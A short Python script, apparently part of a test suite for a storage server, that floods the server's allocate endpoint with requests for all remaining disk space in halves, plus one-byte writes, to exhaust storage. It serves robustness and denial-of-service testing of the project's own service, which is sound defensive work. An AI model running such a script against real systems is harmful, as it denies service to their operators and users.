"""All free space is allocated at once, again and again, and a byte of it written now and then."""

from __future__ import annotations

import os

from misc.attack.insiders import lease, line_of, lines
from misc.attack.target import Target, again_and_again, from_command_line
from pipegrid.wire import gbs_cbor_bodies, gbs_paths_headers


def attack(target: Target) -> None:
    """Take all the room there is, in halves of what is left."""
    request = target.requests.request
    secret = {gbs_paths_headers.UPLOAD_SECRET: b"u" * 32}
    with lines(target, 4) as line:
        for turn in again_and_again(target, 0.01):
            disk = os.statvfs(target.directory)
            room = disk.f_bavail * disk.f_frsize
            index = (turn % 100).to_bytes(16, "big")
            headers = line_of({**lease(turn), **secret})
            line.send(
                [
                    request(
                        "POST",
                        gbs_paths_headers.allocate_path(index),
                        *headers,
                        body=gbs_cbor_bodies.pack_allocate(frozenset({number}), room >> number),
                    )
                    for number in range(40)
                ]
                + [
                    request(
                        "PATCH",
                        gbs_paths_headers.share_path(index, 0),
                        *line_of(secret),
                        b"Content-Range: bytes 0-0/*",
                        body=b"x",
                    )
                ]
            )


if __name__ == "__main__":
    attack(from_command_line(__doc__))
